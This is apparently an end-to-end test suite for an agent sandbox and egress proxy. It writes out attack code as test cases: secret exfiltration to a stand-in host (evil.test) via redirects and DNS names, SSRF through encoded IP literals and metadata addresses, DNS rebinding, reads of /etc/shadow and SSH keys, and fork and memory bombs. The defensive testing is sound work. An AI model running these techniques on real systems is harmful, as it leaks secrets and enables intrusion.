/**
 * The exfiltration suite: each case is a real agent bundle run in the real sandbox
 * (bubblewrap + seccomp + cgroups) behind the real egress proxy, performing the attack.
 * A canary listener on 127.0.0.1 — reachable to the proxy by the test's address policy,
 * so only the allowlist and the checks stand between it and the agent — must receive
 * nothing, and the run's secret input must appear nowhere it should not.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSigner } from "../../src/seal/signing.js";
import { publicUnicastOnly, withAllowedAddresses } from "../../src/agents/egress/address-policy.js";
import { runAgent, type AgentRunResult } from "../../src/agents/runner.js";
import { detectSandbox } from "../../src/agents/sandbox/detect.js";
import { SandboxPool } from "../../src/agents/sandbox/warm-pool.js";
import { AGENT_NET_HELPERS, hasOpenssl, inlineBundle, startCanary, startTlsUpstream, type Canary, type TlsUpstream } from "../../src/agents/test-fixtures.js";

const support = detectSandbox();
const ready = support.available && hasOpenssl();
const title = ready ? "agent exfiltration suite (real sandbox)" : `agent exfiltration suite (skipped: ${support.reason ?? "openssl missing"})`;

const SECRET = `s3cr3t-${Math.random().toString(36).slice(2)}-private`;
const signer = createSigner("ed25519");
let canary: Canary;
let upstream: TlsUpstream;
let dataDir: string;
const resolverCalls: string[] = [];
// Runs take pre-started sandboxes, as on a node (`cloister up`); the other e2e files start them cold.
const pool = new SandboxPool({ size: 1 });
let rebindCalls = 0;

// The injected resolver: declared names point at the TLS upstream (127.0.0.1), attack names at
// internal ranges. Undeclared names must never get here (the allowlist is checked first).
async function resolve(host: string): Promise<string[]> {
  resolverCalls.push(host);
  if (host === "api.allowed.test") return ["127.0.0.1"];
  if (host === "meta.allowed.test") return ["169.254.169.254"];
  if (host === "private.allowed.test") return ["10.1.2.3"];
  if (host === "mapped.allowed.test") return ["::ffff:127.0.0.2"];
  if (host === "nat64.allowed.test") return ["64:ff9b::7f00:1"];
  if (host === "mixed.allowed.test") return ["127.0.0.1", "192.168.1.1"];
  if (host === "rebind.allowed.test") return ++rebindCalls === 1 ? ["127.0.0.1"] : ["127.0.0.3"];
  return ["127.0.0.1"];
}

const policy = withAllowedAddresses(publicUnicastOnly, ["127.0.0.1"]);

function egressFor(port: number): string[] {
  return ["api", "meta", "private", "mapped", "nat64", "mixed", "rebind"].map((h) => `${h}.allowed.test:${port}`);
}

async function run(code: string, manifest: Record<string, unknown> = {}, input: unknown = { secret: SECRET }): Promise<AgentRunResult & { report: Record<string, unknown> }> {
  const { signed, hash } = inlineBundle(AGENT_NET_HELPERS + code, { egress: egressFor(upstream.port), ...manifest });
  const r = await runAgent({ signed, bundleSha256: hash, scannerReportSha256: null, input: Buffer.from(JSON.stringify(input)), signer, attestation: { tee: "simulated", e2ePublicKey: new Uint8Array(32) }, addressPolicy: policy, resolve, pool });
  let report: Record<string, unknown> = {};
  try {
    report = JSON.parse(r.output.toString("utf8")) as Record<string, unknown>;
  } catch {
    report = {};
  }
  return { ...r, report };
}

function hostIp(): string | null {
  for (const list of Object.values(networkInterfaces())) for (const a of list ?? []) if (!a.internal && a.family === "IPv4") return a.address;
  return null;
}

function expectCanaryUntouched(): void {
  const got = canary.received();
  expect(got.tcp).toBe(0);
  expect(got.udp).toBe(0);
  expect(got.bytes.includes(SECRET)).toBe(false);
}

describe.skipIf(!ready)(title, () => {
  beforeAll(async () => {
    canary = await startCanary();
    upstream = await startTlsUpstream((path) =>
      path === "/redirect"
        ? `HTTP/1.1 302 Found\r\nLocation: https://evil.test:${canary.port}/?d=${SECRET}\r\nContent-Length: 0\r\n\r\n`
        : "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nhello",
    );
    dataDir = mkdtempSync(join(tmpdir(), "cloister-node-data-"));
    writeFileSync(join(dataDir, "node-key.pem"), `NODE-KEY-${SECRET}`);
    writeFileSync(join(dataDir, "cloister.sqlite"), `SQLITE-${SECRET}`);
    process.env.CLOISTER_HOST_SECRET = SECRET;
  });
  afterAll(async () => {
    delete process.env.CLOISTER_HOST_SECRET;
    pool.close();
    await canary?.close();
    await upstream?.close();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  it("positive control: a declared host with matching SNI is reached, and the receipt counts its bytes", async () => {
    const r = await run(`console.log(JSON.stringify(await tlsGet("api.allowed.test:" + input.port, "api.allowed.test", "/")));`, {}, { port: upstream.port });
    expect(r.report.stage).toBe("done");
    expect(String(r.report.response)).toContain("hello");
    const e = r.receipt.receipt.egress.find((x) => x.host === "api.allowed.test");
    expect(e?.connections).toBe(1);
    expect(e?.bytes_in).toBeGreaterThan(0);
    expect(r.receipt.receipt.sandbox.kind).toBe("bubblewrap");
  });

  it("refuses undeclared hosts by name, and never resolves them", async () => {
    resolverCalls.length = 0;
    const r = await run(`
      const names = ["evil.test", "api.allowed.test.evil.test", "API.ALLOWED.TEST.evil.test", "xn--e1afmkfd.test", "пример.test", "api.allowed.test%00.evil.test", "api.allowed.test\\u0000.evil.test", "evil.test@api.allowed.test", "${SECRET}.evil.test"];
      const out = {}; for (const n of names) out[n] = (await connectVia(n + ":" + input.port)).status;
      console.log(JSON.stringify(out));`, {}, { port: canary.port });
    for (const status of Object.values(r.report)) expect(String(status)).not.toMatch(/ 200 /);
    expect(Object.keys(r.report)).toHaveLength(9);
    expect(resolverCalls.filter((h) => !h.endsWith(".allowed.test"))).toEqual([]);
    expect(resolverCalls).toEqual([]);
    expectCanaryUntouched();
  });

  it("refuses IP literals in every spelling: dotted, decimal, octal, hex, short, IPv6, IPv4-mapped", async () => {
    const r = await run(`
      const p = input.port; const forms = ["127.0.0.1", "2130706433", "017700000001", "0177.0.0.1", "0x7f.0.0.1", "0x7f000001", "127.1", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "169.254.169.254", "[fd00:ec2::254]"];
      const out = {}; for (const f of forms) out[f] = (await connectVia(f + ":" + p)).status;
      console.log(JSON.stringify(out));`, {}, { port: canary.port });
    expect(Object.keys(r.report)).toHaveLength(13);
    for (const status of Object.values(r.report)) expect(String(status)).toMatch(/^HTTP\/1\.1 (403|400)/);
    expect(r.traffic.decisions.filter((d) => d.reason === "ip_literal").length).toBeGreaterThanOrEqual(11);
    expectCanaryUntouched();
  });

  it("refuses declared names that resolve to metadata, private, IPv4-mapped loopback, NAT64 or mixed answers", async () => {
    const r = await run(`
      const out = {}; for (const h of ["meta", "private", "mapped", "nat64", "mixed"]) out[h] = (await connectVia(h + ".allowed.test:" + input.port)).status;
      console.log(JSON.stringify(out));`, {}, { port: upstream.port });
    for (const status of Object.values(r.report)) expect(String(status)).toMatch(/^HTTP\/1\.1 403/);
    expect(r.traffic.decisions.map((d) => d.reason)).toEqual(["address_linkLocal", "address_private", "address_loopback", "address_rfc6052", "address_private"]);
  });

  it("DNS rebinding: the second answer (internal) is refused; the first connection went to the checked address", async () => {
    rebindCalls = 0;
    const before = upstream.handshakes.length;
    const r = await run(`
      const a = await tlsGet("rebind.allowed.test:" + input.port, "rebind.allowed.test", "/");
      const b = await connectVia("rebind.allowed.test:" + input.port);
      console.log(JSON.stringify({ first: a.stage, second: b.status }));`, {}, { port: upstream.port });
    expect(r.report.first).toBe("done");
    expect(String(r.report.second)).toMatch(/^HTTP\/1\.1 403/);
    expect(upstream.handshakes.length - before).toBe(1);
  });

  it("redirects are not followed for the agent, and following one itself is a refused CONNECT", async () => {
    const r = await run(`
      const a = await tlsGet("api.allowed.test:" + input.port, "api.allowed.test", "/redirect");
      const loc = /Location: https:\\/\\/([^/]+)\\//.exec(a.response || "")?.[1];
      const b = loc ? await tlsGet(loc, loc.split(":")[0], "/") : { stage: "no-location" };
      console.log(JSON.stringify({ first: String(a.response).split("\\r\\n")[0], second: b }));`, {}, { port: upstream.port });
    expect(r.report.first).toBe("HTTP/1.1 302 Found");
    expect((r.report.second as { stage: string; status: string }).stage).toBe("connect");
    expect((r.report.second as { status: string }).status).toMatch(/^HTTP\/1\.1 403/);
    expectCanaryUntouched();
  });

  it("refuses CONNECT to a declared host on another port", async () => {
    const r = await run(`console.log(JSON.stringify({ s: (await connectVia("api.allowed.test:" + input.port)).status }));`, {}, { port: canary.port });
    expect(String(r.report.s)).toMatch(/^HTTP\/1\.1 403/);
    expect(r.traffic.decisions[0]?.reason).toBe("not_declared");
    expectCanaryUntouched();
  });

  it("cuts a tunnel whose SNI differs from the CONNECT host, lacks one, or is not TLS", async () => {
    const before = upstream.handshakes.length;
    const r = await run(`
      const a = await tlsGet("api.allowed.test:" + input.port, "evil.test", "/");
      const b = await tlsGet("api.allowed.test:" + input.port, "", "/");
      const c = await connectVia("api.allowed.test:" + input.port);
      let cr = "none"; if (c.ok) { c.socket.write("GET /?d=" + input.secret + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); cr = await new Promise((r) => { c.socket.on("data", () => r("data")); c.socket.on("close", () => r("closed")); setTimeout(() => r("timeout"), 3000); }); }
      console.log(JSON.stringify({ a: a.stage, b: b.stage, c: cr }));`, {}, { port: upstream.port, secret: SECRET });
    expect(r.report.a).not.toBe("done");
    expect(r.report.b).not.toBe("done");
    expect(r.report.c).toBe("closed");
    expect(upstream.handshakes.length - before).toBe(0);
    expect(r.traffic.decisions.map((d) => d.reason)).toEqual(["sni_mismatch", "sni_missing", "not_tls"]);
    expect(r.receipt.receipt.egress).toEqual([]);
  });

  it("has no route for raw TCP or UDP, and no DNS: data encoded in queries goes nowhere", async () => {
    resolverCalls.length = 0;
    const r = await run(`
      import dgram from "node:dgram"; import dns from "node:dns/promises";
      const tcp = (host, port) => new Promise((r) => { const s = net.connect({ host, port }); s.on("connect", () => { s.write(input.secret); r("connected"); }); s.on("error", (e) => r(e.code)); setTimeout(() => r("timeout"), 3000); });
      const udp = (host, port) => new Promise((r) => { const s = dgram.createSocket("udp4"); s.send(Buffer.from(input.secret), port, host, (e) => { s.close(); r(e ? e.code : "sent"); }); });
      const q = async (f) => { try { await f(); return "answered"; } catch (e) { return e.code; } };
      console.log(JSON.stringify({
        tcpLoop: await tcp("127.0.0.1", input.port), tcpHost: input.host ? await tcp(input.host, input.port) : "ENETUNREACH",
        udpLoop: await udp("127.0.0.1", input.udp), udpHost: input.host ? await udp(input.host, input.udp) : "ENETUNREACH",
        udpDns: await udp("8.8.8.8", 53),
        dnsResolve: await q(() => dns.resolve4(input.secret + ".evil.test")), dnsLookup: await q(() => dns.lookup(input.secret + ".evil.test")),
        dnsTxt: await q(() => dns.resolveTxt(input.secret + ".evil.test")),
      }));`, {}, { port: canary.port, udp: canary.udpPort, host: hostIp(), secret: SECRET });
    expect(r.report.tcpLoop).toBe("ECONNREFUSED");
    expect(["ENETUNREACH", "EHOSTUNREACH", "ECONNREFUSED"]).toContain(r.report.tcpHost);
    // No route: a datagram to the host or to a public resolver fails at send (ENETUNREACH), it is not merely unanswered.
    if (r.report.udpHost !== "ENETUNREACH") expect(["ENETUNREACH", "EHOSTUNREACH", "EPERM"]).toContain(r.report.udpHost);
    expect(["ENETUNREACH", "EHOSTUNREACH", "EPERM"]).toContain(r.report.udpDns);
    for (const k of ["dnsResolve", "dnsLookup", "dnsTxt"]) expect(r.report[k]).not.toBe("answered");
    expect(resolverCalls).toEqual([]);
    expectCanaryUntouched();
  });

  it("cannot read the host's files, environment, the node's keys or database", async () => {
    const r = await run(`
      const tryRead = (p) => { try { return fs.readFileSync(p, "utf8").slice(0, 200); } catch (e) { return "ERR:" + e.code; } };
      const paths = ["/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", input.dataDir + "/node-key.pem", input.dataDir + "/cloister.sqlite", "/work/shared/FACTS.md", "/proc/1/environ", "/proc/self/environ", "/sys/fs/cgroup/memory/memory.limit_in_bytes"];
      const files = {}; for (const p of paths) files[p] = tryRead(p);
      let wrote; try { fs.writeFileSync("/agent/x", "x"); wrote = "yes"; } catch (e) { wrote = e.code; }
      let usr; try { fs.writeFileSync("/usr/x", "x"); usr = "yes"; } catch (e) { usr = e.code; }
      console.log(JSON.stringify({ files, env: process.env, uid: process.getuid(), wrote, usr, ls: fs.readdirSync("/") }));`, {}, { dataDir, secret: "not-this" });
    const out = r.output.toString("utf8");
    expect(out).not.toContain(SECRET);
    const files = r.report.files as Record<string, string>;
    for (const p of ["/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", `${dataDir}/node-key.pem`, `${dataDir}/cloister.sqlite`, "/work/shared/FACTS.md"]) expect(files[p]).toBe("ERR:ENOENT");
    expect(Object.keys(r.report.env as object).sort()).toEqual(["CLOISTER_EGRESS_PORT", "CLOISTER_EGRESS_SOCKET", "CLOISTER_RUN_ID", "HOME", "HTTPS_PROXY", "OPENAI_API_KEY", "OPENAI_BASE_URL", "PATH", "PWD", "TMPDIR", "https_proxy"]);
    expect((r.report.env as Record<string, string>).OPENAI_API_KEY).toBe("cloister-placeholder-key");
    expect(r.report.uid).toBe(65534);
    expect(r.report.wrote).toBe("EROFS");
    expect(r.report.usr).toBe("EROFS");
    expect((r.report.ls as string[]).sort()).toEqual(["agent", "bin", "cloister", "dev", "lib", "lib64", "proc", "run", "tmp", "usr"]);
  });

  it("spawned processes stay in the sandbox (same uid, no files, no network, no new namespaces)", async () => {
    const r = await run(`
      import { spawnSync } from "node:child_process";
      const sh = (c) => { const p = spawnSync("/bin/sh", ["-c", c], { encoding: "utf8", timeout: 5000 }); return (p.stdout || "") + (p.stderr || "") + "|" + p.status; };
      console.log(JSON.stringify({ id: sh("id -u"), cat: sh("cat " + input.dataDir + "/node-key.pem"), unshare: sh("unshare -r id || echo refused"), net: sh("cat /proc/net/route | wc -l") }));`, {}, { dataDir });
    expect(String(r.report.id)).toMatch(/^65534\n\|0$/);
    expect(String(r.report.cat)).toContain("No such file");
    expect(String(r.report.unshare)).toContain("refused");
    expect(String(r.report.net)).toMatch(/^1\n/); // header line only: no routes
    expect(r.output.toString("utf8")).not.toContain(SECRET);
  });

  it("contains a memory bomb, an infinite loop, a fork bomb and a huge output while another run goes on", async () => {
    const benign = run(`console.log(JSON.stringify({ ok: input.n + 1 }));`, {}, { n: 41 });
    const [mem, loop, fork, big] = await Promise.all([
      run(`const a = []; for (;;) a.push(Buffer.alloc(16 * 1024 * 1024, 1));`, { limits: { memoryMb: 64, wallSeconds: 20 } }),
      run(`for (;;) {}`, { limits: { cpuSeconds: 1, wallSeconds: 20 } }),
      run(`import { spawn } from "node:child_process"; let n = 0, e = 0; for (let i = 0; i < 400; i++) { try { const c = spawn("/bin/sh", ["-c", "sleep 30"]); c.on("error", () => e++); n++; } catch { e++; } } await new Promise((r) => setTimeout(r, 500)); console.log(JSON.stringify({ n, e })); process.exit(0);`, { limits: { pids: 16, wallSeconds: 20 } }),
      run(`const s = "x".repeat(65536); for (let i = 0; i < 1000; i++) process.stdout.write(s);`, { limits: { outputBytes: 100000, wallSeconds: 20 } }),
    ]);
    expect(mem.process.outcome).toBe("memory_exceeded");
    expect(loop.process.outcome).toBe("cpu_time_exceeded");
    expect((fork.report as { e: number }).e).toBeGreaterThan(0);
    expect(big.process.outcome).toBe("output_too_large");
    expect(big.output.length).toBeLessThanOrEqual(100000);
    const b = await benign;
    expect(b.report).toEqual({ ok: 42 });
    // The node is unaffected: a run after all of that still works.
    const after = await run(`console.log(JSON.stringify({ ok: true }));`);
    expect(after.report).toEqual({ ok: true });
  });
});
